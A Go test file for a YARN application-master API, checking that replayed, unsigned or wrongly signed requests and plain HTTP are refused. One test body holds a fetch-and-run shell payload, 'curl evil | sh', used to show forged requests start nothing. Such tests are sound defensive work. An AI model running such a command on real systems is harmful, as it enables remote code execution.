package yarn

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/spindle-ml/spindle/driver"
	"github.com/spindle-ml/spindle/internal/auth"
)

func testSigner(t *testing.T, secret string) *auth.Signer {
	t.Helper()
	s, err := auth.NewSigner(secret)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// amAPI serves the AM's API of plan on loopback as the AM does
// (listenAM), and records the container requests it was asked for.
type amAPI struct {
	addr *net.TCPAddr
	mu   sync.Mutex
	asks [][]driver.ExecutorSpec
}

func (a *amAPI) requests() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.asks)
}

func serveAMAPI(t *testing.T, plan Plan) *amAPI {
	t.Helper()
	a := &amAPI{}
	h := amHandlers{
		signer: testSigner(t, plan.AMSecret).For(amAudience(plan)),
		request: func(_ context.Context, specs []driver.ExecutorSpec) error {
			a.mu.Lock()
			a.asks = append(a.asks, specs)
			a.mu.Unlock()
			return nil
		},
		release: func(context.Context, []string) error { return nil },
		finish:  func(amFinish) {},
		events:  newEventLog(),
	}
	ln, err := listenAM(plan, "127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	a.addr = ln.Addr().(*net.TCPAddr)
	srv := &http.Server{Handler: h.mux()}
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ln) }()
	t.Cleanup(func() {
		srv.Close()
		if err := <-done; !errors.Is(err, http.ErrServerClosed) {
			t.Errorf("serve: %v", err)
		}
	})
	return a
}

// signedRequest is a request to /v1/request as the driver sends it, as
// a sniffer on the wire captures it: its headers and body.
func signedRequest(t *testing.T, c *amClient, body string) http.Header {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, c.base+"/v1/request", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.signer.SignRequest(req, []byte(body)); err != nil {
		t.Fatal(err)
	}
	return req.Header
}

// send posts body to /v1/request with headers and returns the status.
func send(t *testing.T, c *amClient, h http.Header, body string) int {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, c.base+"/v1/request", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range h {
		req.Header[k] = v
	}
	resp, err := c.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// TestAMAPIRefusesReplays: a request captured on the wire starts nothing
// when sent again, with its own body or with another; a request without
// a signature, or signed with another secret, is refused.
func TestAMAPIRefusesReplays(t *testing.T) {
	plan := Plan{AppID: "application_1_0009", AMSecret: newSecret()}
	api := serveAMAPI(t, plan)
	c, err := newAMClient(plan, "127.0.0.1", api.addr.Port, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(c.base, "http://") {
		t.Fatalf("base %s without job TLS", c.base)
	}
	good := `[{"ID":"e1","Args":["train"]}]`
	evil := `[{"ID":"e1","Args":["/bin/sh","-c","curl evil | sh"]}]`

	captured := signedRequest(t, c, good)
	if code := send(t, c, captured, good); code != http.StatusOK {
		t.Fatalf("the driver's own request: status %d", code)
	}
	for _, tc := range []struct {
		name string
		h    http.Header
		body string
	}{
		{"same request again", captured, good},
		{"captured headers, another body", captured, evil},
		{"fresh headers, another body", signedRequest(t, c, good), evil},
		{"no signature", http.Header{}, evil},
		{"the old static bearer", http.Header{"Authorization": {"Bearer " + plan.AMSecret}}, evil},
		{"another secret", signedRequest(t, &amClient{base: c.base, signer: testSigner(t, newSecret())}, evil), evil},
		{"made for another AM", signedRequest(t, &amClient{base: c.base, signer: testSigner(t, plan.AMSecret).For("yarn-am application_1_0001")}, evil), evil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if code := send(t, c, tc.h, tc.body); code != http.StatusUnauthorized {
				t.Fatalf("status %d, want %d", code, http.StatusUnauthorized)
			}
		})
	}
	if n := api.requests(); n != 1 {
		t.Fatalf("the AM acted on %d requests, want the driver's one", n)
	}
	// The client signs every call afresh, so the driver's own calls go on.
	for i := 0; i < 2; i++ {
		if err := c.do(context.Background(), http.MethodPost, "/v1/request", []driver.ExecutorSpec{{ID: "e2"}}, nil); err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
	}
}

// TestAMAPIListensOnItsHost: the AM's API binds the host it registers,
// not every interface.
func TestAMAPIListensOnItsHost(t *testing.T) {
	api := serveAMAPI(t, Plan{AMSecret: newSecret()})
	if !api.addr.IP.Equal(net.IPv4(127, 0, 0, 1)) {
		t.Fatalf("the AM listens on %s, want 127.0.0.1 only", api.addr)
	}
}

// TestAMAPITLS: with job TLS the API is HTTPS with the application's own
// certificate; plain HTTP and a client trusting another application's
// CA get nothing.
func TestAMAPITLS(t *testing.T) {
	bundle, err := newAMTLS("application_1_0010")
	if err != nil {
		t.Fatal(err)
	}
	plan := Plan{AppID: "application_1_0010", AMSecret: newSecret(), AMTLS: bundle}
	api := serveAMAPI(t, plan)
	c, err := newAMClient(plan, "127.0.0.1", api.addr.Port, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(c.base, "https://") {
		t.Fatalf("base %s with job TLS, want https://", c.base)
	}
	if err := c.do(context.Background(), http.MethodPost, "/v1/request", []driver.ExecutorSpec{{ID: "e1"}}, nil); err != nil {
		t.Fatalf("over TLS: %v", err)
	}
	plain := *c
	plain.base = strings.Replace(c.base, "https://", "http://", 1)
	plain.http = &http.Client{}
	if err := plain.do(context.Background(), http.MethodPost, "/v1/request", []driver.ExecutorSpec{{ID: "e2"}}, nil); err == nil {
		t.Fatal("plain HTTP to the TLS API was answered")
	}
	other, err := newAMTLS("application_1_0011")
	if err != nil {
		t.Fatal(err)
	}
	wrong, err := newAMClient(Plan{AMSecret: plan.AMSecret, AMTLS: other}, "127.0.0.1", api.addr.Port, 0)
	if err != nil {
		t.Fatal(err)
	}
	err = wrong.do(context.Background(), http.MethodPost, "/v1/request", []driver.ExecutorSpec{{ID: "e3"}}, nil)
	if err == nil || !strings.Contains(err.Error(), "certificate") {
		t.Fatalf("a client trusting another application's CA: %v", err)
	}
	if n := api.requests(); n != 1 {
		t.Fatalf("the AM acted on %d requests, want 1", n)
	}
}

func TestSettingsJobTLS(t *testing.T) {
	for _, tc := range []struct {
		settings []string
		want     bool
	}{
		{nil, false},
		{[]string{"spindle.job.tls.enabled=true"}, true},
		{[]string{"spindle.job.tls.enabled=true", "spindle.job.tls.enabled=false"}, false},
		{[]string{"spindle.job.tls.enabledx=true"}, false},
	} {
		if got := settingsJobTLS(tc.settings); got != tc.want {
			t.Errorf("%v: %v, want %v", tc.settings, got, tc.want)
		}
	}
}
